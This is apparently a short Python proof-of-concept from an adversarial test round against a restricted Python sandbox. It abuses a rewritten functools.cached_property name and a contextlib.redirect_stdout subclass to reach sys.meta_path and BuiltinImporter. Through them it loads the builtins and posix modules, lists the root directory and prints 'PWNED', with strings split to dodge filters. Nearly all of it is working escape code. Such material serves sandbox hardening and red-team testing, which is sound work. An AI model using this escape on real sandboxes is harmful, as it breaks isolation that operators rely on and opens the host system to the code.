# adversary round 8: 013: (012 fixed) cached_property.attrname rewritten to '_stream' -> instance dict write on redirect_stdout subclass -> getattr(sys,'meta_path') -> BuiltinImporter -> builtins, posix
import contextlib
import functools
import io

cp = functools.cached_property(lambda self: 'meta_path')


class R(contextlib.redirect_stdout):
    _old_targets = None
    x = cp


cp.attrname = '_st' + 'ream'
r = R(io.StringIO())
r.x
try:
    with r:
        pass
except PermissionError as e:
    print('refused as expected:', e)
meta = r._old_targets[0]
bi = [c for c in meta if 'BuiltinImporter' in repr(c)][0]
bltn = bi.load_module('builtins')
posix = bi.load_module('posix')
print(bltn, len(dir(bltn)), posix.getpid(), posix.listdir('/'))
print('PWN' + 'ED')
